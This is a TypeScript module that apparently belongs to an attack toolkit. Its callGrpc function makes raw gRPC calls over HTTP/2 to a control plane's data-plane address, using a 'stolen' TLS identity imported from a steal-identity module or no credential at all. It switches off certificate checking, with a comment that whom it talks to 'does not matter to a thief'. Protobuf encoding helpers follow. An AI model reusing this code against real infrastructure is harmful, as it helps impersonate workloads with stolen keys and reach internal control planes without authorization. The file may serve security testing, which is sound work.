import { connect, constants } from 'node:http2';
import type { StolenIdentity } from './steal-identity.ts';

/** How a call to the control plane's data-plane address ended: with messages, with a status of gRPC, or without either. */
export type GrpcAnswer = { readonly messages: readonly Buffer[]; readonly status: number | null; readonly failure: string | null };

/**
 * One gRPC call as anybody could make it, over TLS with a stolen key or without any. Ends with the first message, with the
 * status, or with the connection, whichever comes first.
 */
export async function callGrpc(
  address: string,
  method: string,
  message: Buffer,
  credential: StolenIdentity | null,
  kind: 'unary' | 'stream' = 'unary',
): Promise<GrpcAnswer> {
  const { promise, resolve } = Promise.withResolvers<GrpcAnswer>();
  const end = (messages: readonly Buffer[], status: number | null, failure: string | null): void => resolve({ messages, status, failure });
  // Whom it talks to does not matter to a thief.
  const session = connect(`https://${address}`, { ...credential, rejectUnauthorized: false, ALPNProtocols: ['h2'] });
  session.on('error', (error: NodeJS.ErrnoException) => end([], null, error.code ?? error.message));
  session.on('close', () => end([], null, 'closed'));
  const stream = session.request({
    [constants.HTTP2_HEADER_METHOD]: 'POST',
    [constants.HTTP2_HEADER_PATH]: `/${method}`,
    'content-type': 'application/grpc',
    te: 'trailers',
  });
  let octets = Buffer.alloc(0);
  const readStatus = (headers: { readonly [name: string]: unknown }): void => {
    const status = headers['grpc-status'];
    if (status !== undefined) end([], Number(status), null);
  };
  stream.on('response', readStatus);
  stream.on('trailers', readStatus);
  stream.on('data', (part: Buffer) => {
    octets = Buffer.concat([octets, part]);
    if (octets.length >= 5 && octets.length >= 5 + octets.readUInt32BE(1))
      end([octets.subarray(5, 5 + octets.readUInt32BE(1))], null, null);
  });
  stream.on('error', (error: NodeJS.ErrnoException) => end([], null, error.code ?? error.message));
  stream.setTimeout(TIMEOUT_MS, () => end([], null, 'timeout'));
  const frame = Buffer.alloc(5);
  frame.writeUInt32BE(message.length, 1);
  stream.write(Buffer.concat([frame, message]));
  if (kind === 'unary') stream.end();
  const answer = await promise;
  session.destroy();
  return answer;
}

/** A length-delimited field of a protobuf message (wire type 2). */
export function encodeField(number: number, value: string | Uint8Array): Buffer {
  const content = Buffer.from(value);
  return Buffer.concat([encodeVarint((number << 3) | 2), encodeVarint(content.length), content]);
}

function encodeVarint(value: number): Buffer {
  const octets: number[] = [];
  for (let rest = value; ; rest = Math.floor(rest / 128)) {
    if (rest < 128) return Buffer.from([...octets, rest]);
    octets.push((rest % 128) | 0x80);
  }
}

const TIMEOUT_MS = 4_000;
